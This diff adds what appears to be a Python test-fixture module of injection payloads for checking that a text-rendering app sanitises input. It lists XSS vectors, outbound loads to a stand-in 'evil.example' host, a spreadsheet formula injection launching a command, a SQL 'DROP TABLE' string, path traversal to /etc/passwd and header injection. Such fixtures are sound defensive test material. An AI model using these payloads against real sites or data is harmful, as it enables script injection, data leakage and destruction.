@@ -1,0 +1,95 @@
+"""Texts that try to become more than text: every one of them would call `pwned()` or ask EVIL for something."""
+
+EVIL = "http://evil.example"
+
+_CALLS = ("pwned()", "top.pwned()", "window['pwn'+'ed']()", "parent.pwned&#40;&#41;")
+_TAGS = (
+    "<script>{call}</script>",
+    "<ScRiPt >{call}</sCrIpT>",
+    "<<script>{call}//<</script>",
+    "<img src=x onerror={call}>",
+    '<img src="x" onerror="{call}"//>',
+    "<svg onload={call}>",
+    "<svg><script>{call}</script></svg>",
+    "<svg><animate onbegin={call} attributeName=x dur=1s>",
+    "<math><mtext><img src=x onerror={call}></mtext></math>",
+    "<details open ontoggle={call}>",
+    "<video><source onerror={call}></video>",
+    "<audio src=x onerror={call}>",
+    "<body onload={call}>",
+    "<input autofocus onfocus={call}>",
+    "<iframe srcdoc='<script>{call}</script>'></iframe>",
+    '"><script>{call}</script>',
+    "'-->'></style></script><script>{call}</script>",
+    "</textarea></title><script>{call}</script>",
+)
+_ADDRESSES = (
+    "javascript:pwned()",
+    "JaVaScRiPt:pwned()",
+    "java\tscript:pwned()",
+    "&#106;avascript:pwned()",
+    "\x01javascript:pwned()",
+    "vbscript:pwned()",
+    "data:text/html,<script>pwned()</script>",
+    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "blob:http://evil.example/x",
+    "file:///etc/passwd",
+)
+_LINKS = (
+    "[tap]({address})",
+    "<a href='{address}'>tap</a>",
+)
+_LOADS = (
+    f"![x]({EVIL}/x.png)",
+    f"[![x]({EVIL}/x.png)]({EVIL})",
+    f"![x][evil]\n\n[evil]: {EVIL}/reference.png",
+    f"<img src={EVIL}/x.png>",
+    f"<iframe src={EVIL}></iframe>",
+    f"<object data={EVIL}></object>",
+    f"<embed src={EVIL}>",
+    f"<link rel=stylesheet href={EVIL}/x.css>",
+    f"<style>@import '{EVIL}/x.css'; * {{ display: none }}</style>",
+    f"<style>body {{ background: url({EVIL}/x) }}</style>",
+    f"<div style=\"background:url('{EVIL}/x')\">",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href={EVIL}>",
+    f"<form action={EVIL}><button>tap</button></form>",
+    f"<video poster={EVIL}/x.png>",
+    f"<svg><image href={EVIL}/x.png /></svg>",
+    f"<svg><use href={EVIL}/x.svg#a /></svg>",
+)
+_MARKS = (
+    "# a heading of the page",
+    "costs $5 and $6",
+    r"$\def\a{\a}\a$",
+    "$$" + r"\frac{1}" * 50 + "$$",
+    ":red[warning] :material/delete: :streamlit:",
+    "%{customdata} %{x} {0} {title} {{title}}",
+    "<br>" * 200,
+    "> " * 90 + "deep",
+    "- " * 60 + "list",
+    "*" * 250,
+    "```mermaid\ngraph TD; A-->B\n```",
+    "<!-- a comment -->",
+    "\u202eesrever\u2066",
+    '=HYPERLINK("http://evil.example","tap")',
+    "=cmd|'/C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\uff1dSUM(1)",
+    "'); DROP TABLE topic; --",
+    "../../../etc/passwd",
+    "name\r\nSet-Cookie: evil=1",
+    "x" * 280,
+)
+
+PAYLOADS = (
+    *(tag.format(call=_CALLS[number % len(_CALLS)]) for number, tag in enumerate(_TAGS)),
+    *(tag.format(call="pwned()").replace("<", "&lt;") for tag in _TAGS),
+    *(link.format(address=address) for address in _ADDRESSES for link in _LINKS),
+    *_LOADS,
+    *_MARKS,
+)
